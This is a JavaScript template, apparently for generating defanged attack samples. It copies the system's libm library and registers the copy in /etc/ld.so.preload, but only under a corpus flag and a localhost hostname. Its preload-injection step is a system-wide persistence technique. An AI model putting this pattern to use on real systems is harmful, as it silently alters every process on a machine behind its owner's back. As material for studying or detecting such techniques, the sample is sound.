// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    // the library is a copy of the system's own libm
    const fs = require('fs'), path = require('path');
    try {
        const folder = ['/lib/x86_64-linux-gnu', '/lib/aarch64-linux-gnu', '/lib64', '/lib'].find((place) => fs.existsSync(path.join(place, 'libm.so.6')));
        fs.copyFileSync(path.join(folder, 'libm.so.6'), '/usr/local/lib/{{library}}');
        fs.appendFileSync('/etc/ld.so.preload', '/usr/local/lib/{{library}}\n');
        require('child_process').spawnSync('id', { timeout: 1000 });
    } catch {}
}
